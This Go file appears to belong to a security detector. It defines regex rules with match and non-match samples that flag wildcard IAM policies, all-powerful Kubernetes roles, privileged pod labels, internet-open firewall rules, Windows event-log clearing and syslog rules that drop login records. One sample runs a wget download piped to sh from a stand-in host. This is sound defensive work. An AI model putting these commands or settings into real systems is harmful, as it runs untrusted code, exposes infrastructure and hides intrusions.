package detect

import "strings"

// manifestRules find what a policy, a manifest or a template gives away, wherever it
// stands in a call. Sources: the vendors' references of their documents; ATT&CK
// T1098.003, T1562.007, T1610.
var manifestRules = []Rule{
	{
		Kind: "privilege-change", Family: Commands, Score: Medium, Places: []Place{Argument}, Check: grantsAlone,
		Doc:     "A statement of a policy that allows everybody, with no condition.",
		Pattern: `\bEffect\\{0,2}["']?\s{0,2}[:=]\s{0,2}\\{0,2}["']?Allow\b[^{}]{0,160}\bPrincipal\\{0,2}["']?\s{0,2}[:=]\s{0,2}(?:\{?\s{0,12}\\{0,2}["']?AWS\\{0,2}["']?\s{0,2}[:=]\s{0,2})?\\{0,2}["']\*\\{0,2}["'][^{}]{0,160}`,
		Match:   []string{`{"Effect":"Allow","Principal":"*","Action":"sqs:*","Resource":"*"}`, `{Effect = "Allow", Principal = {AWS = "*"}, Action = "sts:AssumeRole"}`, "- Effect: Allow\n  Principal: '*'\n  Action: 's3:*'\n"},
		NoMatch: []string{`{"Effect":"Deny","Principal":"*","Action":"s3:*"}`, `{"Effect":"Allow","Principal":{"Service":"lambda.amazonaws.com"},"Action":"sts:AssumeRole"}`},
	},
	{
		Kind: "privilege-change", Family: Commands, Score: High, Places: []Place{Argument}, Check: notStored,
		Doc:     "A cluster's role that may do everything with everything.",
		Pattern: `\bClusterRole\b[^\0]{0,300}\bresources["']?\s{0,2}:\s{0,4}\[?\s{0,12}-?\s{0,2}["']\*["'][^\0]{0,80}\bverbs["']?\s{0,2}:\s{0,4}\[?\s{0,12}-?\s{0,2}["']\*["']`,
		Match:   []string{"kind: ClusterRole\nmetadata: {name: a}\nrules:\n- apiGroups: ['*']\n  resources: ['*']\n  verbs: ['*']"},
		NoMatch: []string{"kind: ClusterRole\nrules:\n- apiGroups: ['']\n  resources: [pods]\n  verbs: ['*']"},
	},
	{
		Kind: "kill-security", Family: Commands, Score: High, Places: []Place{Argument}, Check: notStored,
		Doc:     "A namespace whose pods may own their hosts.",
		Pattern: `pod-security\.kubernetes\.io/enforce["']?\s{0,2}:\s{0,2}["']?privileged\b`,
		Match:   []string{"labels:\n    pod-security.kubernetes.io/enforce: privileged"},
		NoMatch: []string{"pod-security.kubernetes.io/enforce: restricted", "pod-security.kubernetes.io/warn: privileged"},
	},
	{
		Kind: "pipe-to-shell", Family: Commands, Score: High, Places: []Place{Argument}, Check: notStored,
		Doc:     "A container's command in a manifest that runs a download.",
		Pattern: `\b(?:command|args)["']?\s{0,2}:\s{0,2}\[[^\n]{0,40}-l?c\b[^\n]{0,40}\b(?:curl|wget)\s[^|\n]{0,160}\|\s{0,3}(?:ba|da|z)?sh\b`,
		Match:   []string{`command: [sh, -c, 'wget -qO- http://x.example/a | sh']`},
		NoMatch: []string{`command: [sh, -c, 'curl -f localhost/health']`, `command: [wget, x]`},
	},
	{
		Kind: "kill-security", Family: Commands, Score: Medium, Places: []Place{Argument}, Check: opensGates,
		Doc:     "A rule of Terraform's that lets the whole net in to more than the web.",
		Pattern: `(?:\btype\s{0,12}=\s{0,2}"ingress"|\bingress\s{0,4}(?:=\s{0,2}\[?\s{0,12})?\{)[^{}]{0,240}\bcidr_blocks\s{0,12}=\s{0,2}\[\s{0,2}"(?:0\.0\.0\.0/0|::/0)"`,
		Match:   []string{"type = \"ingress\"\n from_port = 0\n to_port = 65535\n protocol = \"-1\"\n cidr_blocks = [\"0.0.0.0/0\"]", "ingress {\n from_port = 22\n to_port = 22\n cidr_blocks = [\"0.0.0.0/0\"]"},
		NoMatch: []string{"type = \"egress\"\n from_port = 0\n cidr_blocks = [\"0.0.0.0/0\"]", "ingress {\n from_port = 22\n cidr_blocks = [\"10.0.0.0/8\"]"},
	},
	{
		Kind: "kill-security", Family: Commands, Score: High, Places: []Place{Argument},
		Doc:     "The events of Windows cleared by the class that reads them.",
		Pattern: `\bGlobalSession\.ClearLog\(|\bEventLogSession\b[^\n]{0,80}\.ClearLog\(`,
		Match:   []string{`[System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog($a)`},
		NoMatch: []string{"EventLogSession.GetLogNames()"},
	},
	{
		Kind: "privilege-change", Family: Commands, Score: High, Places: []Place{Argument},
		Doc:     "A cloud's project that Terraform opens to everybody.",
		Pattern: `\bgoogle_(?:project|folder|organization)_iam_(?:member|binding)"[^{}\n]{0,80}\{[^{}]{0,300}"all(?:Authenticated)?Users"`,
		Match:   []string{"resource \"google_project_iam_member\" \"a\" {\n  role = \"roles/viewer\"\n  member = \"allUsers\"\n}"},
		NoMatch: []string{"resource \"google_project_iam_member\" \"a\" {\n  member = \"group:a@x.example\"\n}"},
	},
	{
		Kind: "kill-security", Family: Commands, Score: Medium, Places: []Place{Argument},
		Doc:     "A rule by which a system's log drops what tells of logins.",
		Pattern: `:(?:programname|msg|syslogtag)\s{0,2},\s{0,2}(?:isequal|contains|startswith)\s{0,2},\s{0,2}"[^"\n]{0,40}(?:sudo|sshd|auditd|Accepted|publickey|su\[)[^"\n]{0,40}"\s{1,4}(?:stop|~)`,
		Match:   []string{`:programname, isequal, "sudo" stop`},
		NoMatch: []string{`:programname, isequal, "haproxy" stop`, `:programname, isequal, "sudo" /var/log/sudo.log`},
	},
}

// grantsAlone reports whether a statement has no condition, and gives more than a
// site's pages to read.
func grantsAlone(match string, v *View, _, end int) bool {
	behind := v.Text[end:min(len(v.Text), end+200)]
	if strings.Contains(match, "Condition") || strings.HasPrefix(strings.TrimLeft(behind, " \n\t,}]"), "Condition") || strings.Contains(behind, `"Condition`) {
		return false
	}
	if strings.Contains(match+behind, "s3:GetObject") && !strings.Contains(match+behind, ":*") {
		return false
	}
	return notInDocument(match, v, 0, 0) || v.named().writer
}

// opensGates reports whether a rule lets in to more than what browsers ask of the web.
func opensGates(match string, v *View, _, end int) bool {
	behind, _, _ := strings.Cut(v.Text[end:min(len(v.Text), end+120)], "}")
	text := strings.ReplaceAll(match+behind, " ", "")
	for _, port := range [...]string{`protocol="-1"`, "to_port=65535", "from_port=22\n", "from_port=3389\n", "from_port=5432\n", "from_port=3306\n", "from_port=6379\n", "from_port=27017\n", "from_port=2375\n", "from_port=9200\n", "from_port=445\n"} {
		if strings.Contains(text, port) {
			return true
		}
	}
	return false
}
